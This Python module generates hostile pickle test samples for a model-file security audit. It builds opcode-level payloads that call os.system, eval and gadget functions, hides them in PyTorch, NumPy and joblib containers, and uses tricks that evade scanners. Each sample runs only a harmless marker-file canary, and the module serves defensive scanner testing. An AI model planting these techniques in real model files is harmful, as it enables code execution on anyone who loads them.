"""Hostile pickle samples, written in code: one generator per bypass class.

Every sample carries a harmless canary: loaded the way its format is
loaded (``pickle.load``, ``torch.load``, ``np.load(allow_pickle=True)``,
``joblib.load``), it would create a marker file (``touch <marker>`` through
``os.system``, or ``open(<marker>, 'w')``). The audit must report it and
the marker must never appear. The payloads are assembled opcode by opcode
(or with ``__reduce__``), and files are named the way scanners that pick
files by extension miss them (``.pth.tar``, ``.state``, ``.bin.tmp``, no
extension).

Each :class:`SampleSpec` names the bypass class of
``shared/notes/artifact-security.md`` section 2 it exercises (``A``: deny-list
gaps, ``B``: name resolution, ``C``: opcode and parser differentials, ``D``:
containers, ``E``: nested payloads), the rule the audit must raise, a
phrase of the finding that names the mechanism, and the byte offset of the
evidence.
"""

from __future__ import annotations

import base64
import io
import marshal
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# ------------------------------------------------------------------ opcode helpers


def _u4(n: int) -> bytes:
    return struct.pack("<I", n)


def glob(module: str, name: str) -> bytes:
    """GLOBAL 'module name'."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module: str, name: str) -> bytes:
    """INST 'module name' (after a MARK and the arguments)."""
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + _u4(len(raw)) + raw


def bstr(data: bytes) -> bytes:
    """SHORT_BINBYTES or BINBYTES."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + _u4(len(data)) + data


def text0(text: str) -> bytes:
    """Protocol 0 STRING with quotes."""
    return b"S" + repr(text).encode("ascii") + b"\n"


PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
MARK, TUPLE, TUPLE1, TUPLE2, REDUCE, STOP, POP = b"(", b"t", b"\x85", b"\x86", b"R", b".", b"0"
EMPTY_TUPLE, EMPTY_DICT, BUILD, NONE, STACK_GLOBAL = b")", b"}", b"b", b"N", b"\x93"
MEMOIZE, NEWOBJ, NEWOBJ_EX, OBJ, SETITEMS = b"\x94", b"\x81", b"\x92", b"o", b"u"


def binget(index: int) -> bytes:
    """BINGET index."""
    return b"h" + bytes([index])


def shell(marker: Path) -> str:
    """The canary command: create the marker file."""
    return f"touch {marker}"


def python(marker: Path) -> str:
    """The canary statement: create the marker file."""
    return f"open({str(marker)!r}, 'w').close()"


def os_system_call(marker: Path) -> bytes:
    """A protocol 2 body: os.system('touch marker') (GLOBAL, TUPLE1, REDUCE)."""
    return glob("os", "system") + ustr(shell(marker)) + TUPLE1 + REDUCE


# ------------------------------------------------------------------ specs


@dataclass(frozen=True)
class Sample:
    """A written sample and what the audit must say about it."""

    path: Path
    rule: str
    mechanism: str
    offset: int | None
    member: str | None = None
    extra_rules: tuple[str, ...] = ()


@dataclass(frozen=True)
class SampleSpec:
    """A sample generator and the bypass class it belongs to."""

    name: str
    bypass: str
    description: str
    make: Callable[[Path, Path], Sample]


SAMPLES: list[SampleSpec] = []


def sample(
    name: str, bypass: str, description: str
) -> Callable[[Callable[[Path, Path], Sample]], Callable[[Path, Path], Sample]]:
    """Register a generator ``make(directory, marker) -> Sample``."""

    def register(make: Callable[[Path, Path], Sample]) -> Callable[[Path, Path], Sample]:
        SAMPLES.append(SampleSpec(name, bypass, description, make))
        return make

    return register


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


# ------------------------------------------------------------------ C: opcodes, protocols


@sample("protocol0_text", "C", "protocol 0 text pickle: GLOBAL os system, STRING, REDUCE")
def protocol0_text(directory: Path, marker: Path) -> Sample:
    data = glob("os", "system") + MARK + text0(shell(marker)) + TUPLE + REDUCE + STOP
    return Sample(_write(directory / "weights.state", data), "SW-PKL-001", "os.system", 0)


@sample("posix_alias", "B", "module alias: posix.system is os.system")
def posix_alias(directory: Path, marker: Path) -> Sample:
    data = PROTO2 + glob("posix", "system") + ustr(shell(marker)) + TUPLE1 + REDUCE + STOP
    return Sample(
        _write(directory / "checkpoint.pth.tar", data),
        "SW-PKL-001",
        "module alias posix → os",
        2,
    )


@sample("builtin_py2_name", "B", "Python 2 module __builtin__ mapped to builtins: eval")
def builtin_py2_name(directory: Path, marker: Path) -> Sample:
    code = f"__import__('os').system({shell(marker)!r})"
    data = PROTO2 + glob("__builtin__", "eval") + ustr(code) + TUPLE1 + REDUCE + STOP
    return Sample(
        _write(directory / "optimizer.bin.tmp", data),
        "SW-PKL-001",
        "Python 2 module __builtin__ → builtins",
        2,
    )


@sample("stack_global_memo", "C", "STACK_GLOBAL operands routed through the memo")
def stack_global_memo(directory: Path, marker: Path) -> Sample:
    head = PROTO4 + ustr("builtins") + MEMOIZE + ustr("exec") + MEMOIZE + POP + POP
    offset = len(head) + 4
    data = head + binget(0) + binget(1) + STACK_GLOBAL + ustr(python(marker)) + TUPLE1
    data += REDUCE + STOP
    return Sample(_write(directory / "payload", data), "SW-PKL-001", "taken from the memo", offset)


@sample("binstring_operands", "C", "STACK_GLOBAL with SHORT_BINSTRING/BINSTRING operands")
def binstring_operands(directory: Path, marker: Path) -> Sample:
    head = PROTO4 + b"U\x02os" + b"T" + struct.pack("<i", 6) + b"system"
    data = head + STACK_GLOBAL + ustr(shell(marker)) + TUPLE1 + REDUCE + STOP
    return Sample(_write(directory / "vocab.state", data), "SW-PKL-001", "os.system", len(head))


@sample("dotted_name", "B", "dotted attribute name: ('pathlib', 'os.system')")
def dotted_name(directory: Path, marker: Path) -> Sample:
    head = PROTO4 + ustr("pathlib") + ustr("os.system")
    data = head + STACK_GLOBAL + ustr(shell(marker)) + TUPLE1 + REDUCE + STOP
    return Sample(
        _write(directory / "tokenizer.model.bak", data),
        "SW-PKL-001",
        "dotted name 'os.system'",
        len(head),
    )


@sample("main_builtins", "B", "__main__ reference: __main__.__builtins__.exec")
def main_builtins(directory: Path, marker: Path) -> Sample:
    head = PROTO4 + ustr("__main__") + ustr("__builtins__.exec")
    data = head + STACK_GLOBAL + ustr(python(marker)) + TUPLE1 + REDUCE + STOP
    return Sample(_write(directory / "main_ref", data), "SW-PKL-001", "builtins.exec", len(head))


@sample("computed_name", "C", "STACK_GLOBAL name computed at load time: rot13('bf') = 'os'")
def computed_name(directory: Path, marker: Path) -> Sample:
    head = PROTO4 + glob("_codecs", "encode") + ustr("bf") + ustr("rot13") + TUPLE2 + REDUCE
    head += ustr("system")
    data = head + STACK_GLOBAL + ustr(shell(marker)) + TUPLE1 + REDUCE + STOP
    return Sample(_write(directory / "scheduler.state", data), "SW-PKL-002", "computed", len(head))


@sample("ext_opcode", "C", "EXT1: a global chosen through the copyreg extension registry")
def ext_opcode(directory: Path, marker: Path) -> Sample:
    # Loaded by a program that ran copyreg.add_extension('os', 'system', 240).
    data = PROTO2 + b"\x82\xf0" + ustr(shell(marker)) + TUPLE1 + REDUCE + STOP
    return Sample(
        _write(directory / "ext.state", data),
        "SW-PKL-006",
        "extension code 240",
        2,
        extra_rules=("SW-PKL-010",),
    )


@sample("inst_call", "C", "INST call site: INST 'os system' with arguments")
def inst_call(directory: Path, marker: Path) -> Sample:
    data = MARK + text0(shell(marker)) + inst("os", "system") + STOP
    offset = len(MARK + text0(shell(marker)))
    return Sample(_write(directory / "inst.pkl.1", data), "SW-PKL-001", "os.system", offset)


@sample("obj_popped", "C", "OBJ call site whose result is POPped")
def obj_popped(directory: Path, marker: Path) -> Sample:
    data = PROTO2 + MARK + glob("os", "system") + ustr(shell(marker)) + OBJ + POP
    data += NONE + STOP
    return Sample(_write(directory / "obj.state", data), "SW-PKL-001", "called by OBJ", 3)


@sample("newobj_ex_function", "A", "NEWOBJ_EX builds types.FunctionType(marshal.loads(code))")
def newobj_ex_function(directory: Path, marker: Path) -> Sample:
    code = marshal.dumps(compile(python(marker), "<canary>", "exec"))
    head = PROTO4 + glob("types", "FunctionType")
    data = head + glob("marshal", "loads") + bstr(code) + TUPLE1 + REDUCE
    data += EMPTY_DICT + TUPLE2 + EMPTY_DICT + NEWOBJ_EX + EMPTY_TUPLE + REDUCE + STOP
    return Sample(
        _write(directory / "fn.bin.tmp", data),
        "SW-PKL-001",
        "types.FunctionType",
        2,
        extra_rules=("SW-PKL-010",),
    )


@sample("build_setstate", "B", "BUILD sets __setstate__ on a class, a second BUILD calls it")
def build_setstate(directory: Path, marker: Path) -> Sample:
    head = PROTO2 + glob("argparse", "Namespace")
    patch = NONE + EMPTY_DICT + ustr("__setstate__") + glob("os", "system")
    patch += b"s" + TUPLE2 + BUILD + POP
    data = head + patch + glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
    data += ustr(shell(marker)) + BUILD + STOP
    offset = len(head + patch) - 2
    return Sample(
        _write(directory / "namespace.state", data),
        "SW-PKL-011",
        "sets attributes of the global argparse.Namespace",
        offset,
        extra_rules=("SW-PKL-001",),
    )


@sample("frame_divergence", "C", "FRAME shorter than its contents: CPython runs hidden opcodes")
def frame_divergence(directory: Path, marker: Path) -> Sample:
    # Read from a file object (torch.load's BytesIO, pickle.load), CPython 3.11 takes the
    # string's 8 bytes from after the frame and runs `payload`; pickletools and pickle.loads
    # see a string, a SHORT_BINBYTES holding the payload, POP and STOP.
    payload = os_system_call(marker) + STOP
    hidden = b"abcdef" + b"C" + bytes([len(payload)])
    frame = b"X" + _u4(8) + b"zz"
    data = PROTO4 + b"\x95" + struct.pack("<Q", len(frame)) + frame + hidden + payload
    data += POP + STOP
    return Sample(
        _write(directory / "frames.pt.part", data),
        "SW-PKL-007",
        "past the end of its frame",
        11,
        extra_rules=("SW-PKL-001",),
    )


@sample("corrupt_tail", "C", "payload followed by corrupt bytes (no STOP)")
def corrupt_tail(directory: Path, marker: Path) -> Sample:
    data = PROTO2 + os_system_call(marker) + b"\xff\xfe\xfd"
    return Sample(
        _write(directory / "broken.state", data),
        "SW-PKL-001",
        "os.system",
        2,
        extra_rules=("SW-PKL-008",),
    )


@sample("memo_keyerror", "C", "payload, then GET of a memo index never stored")
def memo_keyerror(directory: Path, marker: Path) -> Sample:
    data = PROTO2 + os_system_call(marker) + POP + binget(99) + STOP
    return Sample(
        _write(directory / "memo.state", data),
        "SW-PKL-001",
        "os.system",
        2,
        extra_rules=("SW-PKL-008",),
    )


@sample("misplaced_proto", "C", "a second PROTO switches to protocol 4 before a dotted name")
def misplaced_proto(directory: Path, marker: Path) -> Sample:
    head = PROTO2 + NONE + POP + PROTO4 + ustr("shutil") + ustr("os.system")
    data = head + STACK_GLOBAL + ustr(shell(marker)) + TUPLE1 + REDUCE + STOP
    return Sample(
        _write(directory / "proto.state", data),
        "SW-PKL-001",
        "os.system",
        len(head),
        extra_rules=("SW-PKL-015",),
    )


@sample("billion_laughs", "C", "memo expansion: each level repeats the previous one 8 times")
def billion_laughs(directory: Path, marker: Path) -> Sample:
    data = PROTO2 + b"]" + b"q\x00"
    for level in range(1, 40):
        data += MARK + (b"h" + bytes([level - 1])) * 8 + b"l" + b"q" + bytes([level])
    # The canary sits after the bomb: a scanner that gives up early misses it.
    data += os_system_call(marker) + STOP
    return Sample(_write(directory / "laughs.state", data), "SW-PKL-009", "expands", None)


# ------------------------------------------------------------------ A: deny-list gaps


@sample("pkgutil_resolve_name", "A", "pkgutil.resolve_name('os:system') then called")
def pkgutil_resolve_name(directory: Path, marker: Path) -> Sample:
    head = PROTO2 + glob("pkgutil", "resolve_name") + ustr("os:system") + TUPLE1 + REDUCE
    data = head + ustr(shell(marker)) + TUPLE1 + REDUCE + STOP
    return Sample(
        _write(directory / "resolver.state", data),
        "SW-PKL-001",
        "pkgutil",
        2,
        extra_rules=("SW-PKL-010",),
    )


@sample("timeit_gadget", "A", "timeit.timeit runs a statement")
def timeit_gadget(directory: Path, marker: Path) -> Sample:
    # timeit.timeit(stmt="pass", setup=<canary>): the setup runs once.
    data = PROTO2 + glob("timeit", "timeit") + ustr("pass") + ustr(python(marker)) + TUPLE2
    data += REDUCE + STOP
    return Sample(_write(directory / "timing.state", data), "SW-PKL-001", "timeit", 2)


@sample("uuid_command", "A", "uuid._get_command_stdout runs a program")
def uuid_command(directory: Path, marker: Path) -> Sample:
    data = PROTO2 + glob("uuid", "_get_command_stdout") + ustr("touch") + ustr(str(marker))
    data += TUPLE2 + REDUCE + STOP
    return Sample(_write(directory / "uuid.state", data), "SW-PKL-001", "uuid", 2)


@sample("methodcaller_importlib", "A", "operator.methodcaller applied to importlib's os")
def methodcaller_importlib(directory: Path, marker: Path) -> Sample:
    caller = glob("operator", "methodcaller") + ustr("system") + ustr(shell(marker)) + TUPLE2
    module = glob("importlib", "import_module") + ustr("os") + TUPLE1 + REDUCE
    data = PROTO2 + caller + REDUCE + module + TUPLE1 + REDUCE + STOP
    return Sample(
        _write(directory / "caller.state", data),
        "SW-PKL-001",
        "operator.methodcaller",
        2,
        extra_rules=("SW-PKL-010",),
    )


@sample("numpy_runstring", "A", "numpy.testing's runstring executes code")
def numpy_runstring(directory: Path, marker: Path) -> Sample:
    data = PROTO2 + glob("numpy.testing._private.utils", "runstring") + ustr(python(marker))
    data += EMPTY_DICT + TUPLE2 + REDUCE + STOP
    return Sample(_write(directory / "np.state", data), "SW-PKL-001", "numpy.testing", 2)


@sample("eval_magic_stacked", "C", "stacked pickles: legacy magic number computed with eval")
def eval_magic_stacked(directory: Path, marker: Path) -> Sample:
    code = f"__import__('os').system({shell(marker)!r}) or 0x1950a86a20f9469cfc6c"
    first = PROTO2 + glob("builtins", "eval") + ustr(code) + TUPLE1 + REDUCE + STOP
    rest = pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, protocol=2)
    rest += pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2)
    return Sample(_write(directory / "legacy_eval.pt", first + rest), "SW-PKL-001", "eval", 2)


# ------------------------------------------------------------------ E: nested payloads


class _Reduce:
    """An object that pickles as ``func(*args)``."""

    def __init__(self, func: object, args: tuple[object, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.func, self.args


def _payload_pickle(marker: Path) -> bytes:
    return PROTO2 + os_system_call(marker) + STOP


@sample("nested_base64", "E", "pickle.loads(base64.b64decode(...)) of an inner payload")
def nested_base64(directory: Path, marker: Path) -> Sample:
    inner = base64.b64encode(_payload_pickle(marker))
    outer = _Reduce(pickle.loads, (_Reduce(base64.b64decode, (inner,)),))
    data = pickle.dumps(outer, protocol=4)
    offset = data.rindex(REDUCE)  # the last REDUCE calls pickle.loads
    return Sample(
        _write(directory / "nested.bin.tmp", data),
        "SW-PKL-005",
        "decoded by base64.b64decode",
        offset,
        extra_rules=("SW-PKL-001",),
    )


@sample("nested_hex_zlib", "E", "pickle.loads(zlib.decompress(bytes.fromhex(...)))")
def nested_hex_zlib(directory: Path, marker: Path) -> Sample:
    inner = zlib.compress(_payload_pickle(marker)).hex()
    head = PROTO4 + glob("pickle", "loads") + glob("zlib", "decompress")
    head += glob("builtins", "bytes.fromhex") + ustr(inner) + TUPLE1 + REDUCE + TUPLE1 + REDUCE
    data = head + TUPLE1 + REDUCE + STOP
    return Sample(
        _write(directory / "nested_hex", data),
        "SW-PKL-005",
        "zlib.decompress",
        len(head) + 1,
        extra_rules=("SW-PKL-001",),
    )


@sample("npy_object", "E", "object-dtype .npy whose pickle runs a payload")
def npy_object(directory: Path, marker: Path) -> Sample:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    prefix = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    data = prefix + PROTO2 + os_system_call(marker) + STOP
    return Sample(
        _write(directory / "embeddings.npy", data), "SW-PKL-001", "os.system", len(prefix) + 2
    )


@sample("npz_object", "E", "object-dtype member inside an .npz")
def npz_object(directory: Path, marker: Path) -> Sample:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header
    body = npy + PROTO2 + os_system_call(marker) + STOP
    path = directory / "arrays.npz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights.npy", b"\x93NUMPY\x01\x00" + _plain_npy_tail())
        archive.writestr("objects.npy", body)
    return Sample(path, "SW-PKL-001", "os.system", len(npy) + 2, member="objects.npy")


def _plain_npy_tail() -> bytes:
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return struct.pack("<H", len(header)) + header + b"\x00" * 8


@sample("joblib_inline_object", "E", "joblib object array: the inline pickle carries a payload")
def joblib_inline_object(directory: Path, marker: Path) -> Sample:
    dtype = glob("numpy", "dtype") + ustr("O8") + b"\x89\x88" + b"\x87" + REDUCE
    dtype += MARK + b"K\x03" + ustr("|") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" * 2
    dtype += b"K\x3f" + TUPLE + BUILD
    state = EMPTY_DICT + MARK + ustr("subclass") + glob("numpy", "ndarray")
    state += ustr("shape") + b"K\x01" + TUPLE1 + ustr("order") + ustr("C")
    state += ustr("dtype") + dtype + ustr("allow_mmap") + b"\x89"
    state += ustr("numpy_array_alignment_bytes") + b"K\x10" + SETITEMS
    wrapper = glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    head = PROTO2 + wrapper + state + BUILD
    inner = PROTO2 + os_system_call(marker) + STOP
    data = head + inner + STOP
    return Sample(
        _write(directory / "estimator.joblib.1", data),
        "SW-PKL-001",
        "object array that joblib pickles inline",
        len(head) + 2,
    )


# ------------------------------------------------------------------ D: PyTorch containers


def _tensor_state_dict(key: str, numel: int) -> bytes:
    """A protocol 2 pickle of {'w': tensor} as torch.save writes it (one FloatStorage)."""
    storage = MARK + ustr("storage") + glob("torch", "FloatStorage") + ustr(key) + ustr("cpu")
    storage += b"K" + bytes([numel]) + TUPLE + b"Q"
    tensor = glob("torch._utils", "_rebuild_tensor_v2") + MARK + storage + b"K\x00"
    tensor += MARK + b"K" + bytes([numel]) + TUPLE + MARK + b"K\x01" + TUPLE + b"\x89"
    tensor += glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
    body = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    body += MARK + ustr("w") + tensor + SETITEMS
    return PROTO2 + body + STOP


def _torch_zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _torch_members(prefix: str) -> dict[str, bytes]:
    return {
        f"{prefix}/data.pkl": _tensor_state_dict("0", 4),
        f"{prefix}/byteorder": b"little",
        f"{prefix}/data/0": b"\x00" * 16,
        f"{prefix}/version": b"3\n",
    }


@sample("torch_extra_pickle", "D", "torch zip with an extra pickle member after data.pkl")
def torch_extra_pickle(directory: Path, marker: Path) -> Sample:
    members = _torch_members("archive")
    members["archive/extra/hooks.pkl"] = _payload_pickle(marker)
    path = _torch_zip(directory / "model.pth.tar", members)
    offset = _member_data_offset(path, "archive/extra/hooks.pkl") + 2
    return Sample(
        path,
        "SW-PKL-001",
        "os.system",
        offset,
        member="archive/extra/hooks.pkl",
        extra_rules=("SW-PKL-031",),
    )


@sample("torch_hidden_name", "D", "pickle hidden in a torch zip member with a non-pickle name")
def torch_hidden_name(directory: Path, marker: Path) -> Sample:
    members = _torch_members("archive")
    members["archive/extra/weights.bin"] = _payload_pickle(marker)
    path = _torch_zip(directory / "hidden.pt.1", members)
    return Sample(
        path,
        "SW-PKL-031",
        "a pickle under a name that hides it",
        None,
        member="archive/extra/weights.bin",
        extra_rules=("SW-PKL-001",),
    )


@sample("torch_name_mismatch", "D", "central name data.pkl, local header name data.txt")
def torch_name_mismatch(directory: Path, marker: Path) -> Sample:
    members = _torch_members("archive")
    members["archive/data.pkl"] = PROTO2 + os_system_call(marker) + STOP
    path = _torch_zip(directory / "mismatch.pt.bak", members)
    raw = bytearray(path.read_bytes())
    local = raw.index(b"archive/data.pkl")  # the first occurrence is the local header's
    raw[local : local + len(b"archive/data.pkl")] = b"archive/data.txt"
    path.write_bytes(bytes(raw))
    offset = _member_data_offset(path, "archive/data.pkl") + 2
    return Sample(
        path,
        "SW-PKL-001",
        "os.system",
        offset,
        member="archive/data.pkl",
        extra_rules=("SW-PKL-031",),
    )


@sample("torch_flag_bits", "D", "torch zip whose data.pkl sets flag bits PyTorch ignores")
def torch_flag_bits(directory: Path, marker: Path) -> Sample:
    members = _torch_members("archive")
    members["archive/data.pkl"] = PROTO2 + os_system_call(marker) + STOP
    path = _torch_zip(directory / "flags.pt.bak", members)
    raw = bytearray(path.read_bytes())
    for signature in (b"PK\x03\x04", b"PK\x01\x02"):
        start = 0
        while (found := raw.find(signature, start)) >= 0:
            name_at = found + (30 if signature == b"PK\x03\x04" else 46)
            if raw[name_at : name_at + 16] == b"archive/data.pkl":
                # Data descriptor (0x08) and a reserved bit (0x4000): PyTorch's reader ignores
                # both (older releases also ignored the encryption bit 0x01).
                flag_at = found + (6 if signature == b"PK\x03\x04" else 8)
                raw[flag_at] |= 0x08
                raw[flag_at + 1] |= 0x40
            start = found + 4
    path.write_bytes(bytes(raw))
    offset = _member_data_offset(path, "archive/data.pkl") + 2
    return Sample(path, "SW-PKL-001", "os.system", offset, member="archive/data.pkl")


@sample("torch_bad_crc", "D", "torch zip whose data.pkl has a wrong CRC")
def torch_bad_crc(directory: Path, marker: Path) -> Sample:
    members = _torch_members("archive")
    members["archive/data.pkl"] = PROTO2 + os_system_call(marker) + STOP
    path = _torch_zip(directory / "crc.ckpt.old", members)
    raw = bytearray(path.read_bytes())
    central = raw.find(b"PK\x01\x02")
    raw[central + 16 : central + 20] = b"\xde\xad\xbe\xef"
    path.write_bytes(bytes(raw))
    offset = _member_data_offset(path, "archive/data.pkl") + 2
    return Sample(path, "SW-PKL-001", "os.system", offset, member="archive/data.pkl")


@sample("torch_storage_mismatch", "D", "storage member shorter than numel x element size")
def torch_storage_mismatch(directory: Path, marker: Path) -> Sample:
    members = _torch_members("archive")
    members["archive/data/0"] = b"\x00" * 6
    members["archive/data/7"] = PROTO2 + os_system_call(marker) + STOP
    path = _torch_zip(directory / "storage.pt.tmp", members)
    return Sample(
        path,
        "SW-PKL-033",
        "declares 4 x 4 bytes",
        None,
        member="archive/data.pkl",
        extra_rules=("SW-PKL-034",),
    )


@sample("torchscript_code", "D", "TorchScript archive: code/ compiled and run by torch.jit.load")
def torchscript_code(directory: Path, marker: Path) -> Sample:
    members = _torch_members("script")
    members["script/constants.pkl"] = PROTO2 + b")" + STOP
    members["script/code/__torch__/model.py"] = (
        f"def forward(self):\n  return __import__('os').system({shell(marker)!r})\n".encode()
    )
    path = _torch_zip(directory / "scripted.ptl", members)
    return Sample(
        path, "SW-PKL-030", "torch.jit.load", None, member="script/code/__torch__/model.py"
    )


@sample("legacy_fifth_pickle", "D", "legacy torch.save file: payload in the fifth pickle")
def legacy_fifth_pickle(directory: Path, marker: Path) -> Sample:
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    parts = [
        magic,
        pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        pickle.dumps({"epoch": 3}, protocol=2),
    ]
    offset = sum(len(p) for p in parts) + 2
    parts.append(PROTO2 + os_system_call(marker) + STOP)
    return Sample(
        _write(directory / "legacy.pth.tar", b"".join(parts)),
        "SW-PKL-001",
        "pickle #4",
        offset,
    )


def _member_data_offset(path: Path, name: str) -> int:
    """Where a stored member's data starts (from its local header)."""
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(name)
    raw = path.read_bytes()
    header = info.header_offset
    name_length, extra_length = struct.unpack("<HH", raw[header + 26 : header + 30])
    return header + 30 + name_length + extra_length


def write_all(directory: Path, marker: Path) -> dict[str, Sample]:
    """Write every sample into ``directory``; the canary would create ``marker``."""
    directory.mkdir(parents=True, exist_ok=True)
    return {spec.name: spec.make(directory, marker) for spec in SAMPLES}


def live_loader(name: str) -> Callable[[Path], object] | None:
    """How the sample's format is loaded in the wild (for the opt-in liveness check)."""
    if name in ("npy_object",):
        return lambda path: __import__("numpy").load(path, allow_pickle=True)
    if name in ("frame_divergence",):
        return lambda path: pickle.load(io.BytesIO(path.read_bytes()))
    if name.startswith(("torch_", "legacy_", "torchscript", "npz_", "joblib_", "ext_")):
        return None
    return lambda path: pickle.loads(path.read_bytes())


# ------------------------------------------------------------------ builders for other tests


def shared_memo_stack(module: str, name: str, argument: str, *, via: str) -> bytes:
    """Two stacked pickles; the second calls ``module.name(argument)`` through the first's memo.

    ``via="get"``: the first pickle imports the callable (STACK_GLOBAL, MEMOIZE)
    and returns None; the second only does BINGET 0, its argument and REDUCE, so a
    fresh unpickler fails there. ``via="names"``: the first memoizes the two name
    strings inside a benign list; the second builds the global from BINGET 1 and
    BINGET 2. ``via="memoize"``: the first returns the tuple of the two names; the
    second memoizes two harmless names of its own and calls STACK_GLOBAL on
    BINGET 0 and BINGET 1, which a fresh unpickler resolves to its own entries
    (``builtins.len``) and one reused Unpickler to the first pickle's (the target).
    Only ``pickle.Unpickler(f)`` with ``load()`` called twice runs the target.
    """
    call = ustr(argument) + TUPLE1 + REDUCE + STOP
    if via == "get":
        first = PROTO4 + ustr(module) + ustr(name) + STACK_GLOBAL + MEMOIZE + POP + NONE + STOP
        return first + PROTO4 + binget(0) + call
    if via == "names":
        first = PROTO4 + b"]" + MEMOIZE + MARK + ustr(module) + MEMOIZE + ustr(name) + MEMOIZE
        first += b"e" + STOP
        return first + PROTO4 + binget(1) + binget(2) + STACK_GLOBAL + call
    if via == "memoize":
        first = PROTO4 + ustr(module) + MEMOIZE + ustr(name) + MEMOIZE + TUPLE2 + STOP
        own = ustr("builtins") + MEMOIZE + ustr("len") + MEMOIZE + POP + POP
        return first + PROTO4 + own + binget(0) + binget(1) + STACK_GLOBAL + call
    raise ValueError(f"unknown variant {via!r}")


def call_deeply(make: Callable[[], object], depth: int) -> object:
    """Run ``make`` (a pickler over a value nested ``depth`` deep) with room to recurse.

    CPython's picklers recurse once per level; loading is iterative. A worker
    thread with a large stack and a raised recursion limit lets the test write
    what CPython itself can load.
    """
    import sys
    import threading

    result: list[object] = []
    failure: list[BaseException] = []

    def work() -> None:
        try:
            result.append(make())
        except BaseException as exc:  # re-raised in the caller's thread
            failure.append(exc)

    old_limit, old_stack = sys.getrecursionlimit(), threading.stack_size()
    sys.setrecursionlimit(max(old_limit, 4 * depth + 10_000))
    threading.stack_size(1 << 30)
    try:
        worker = threading.Thread(target=work)
        worker.start()
        worker.join()
    finally:
        threading.stack_size(old_stack)
        sys.setrecursionlimit(old_limit)
    if failure:
        raise failure[0]
    return result[0]


def nested_value(shape: str, depth: int) -> object:
    """A list, dict or tuple nested ``depth`` levels deep, built without recursion."""
    value: object = None
    for level in range(depth):
        if shape == "list":
            value = [value]
        elif shape == "dict":
            value = {"k": value, "n": level}
        elif shape == "tuple":
            value = (value, level)
        else:
            raise ValueError(shape)
    return value


def deep_pickle(shape: str, depth: int, protocol: int) -> bytes:
    """``pickle.dumps`` of :func:`nested_value` (a valid pickle CPython loads)."""
    value = nested_value(shape, depth)
    data = call_deeply(lambda: pickle.dumps(value, protocol=protocol), depth)
    assert isinstance(data, bytes)
    return data
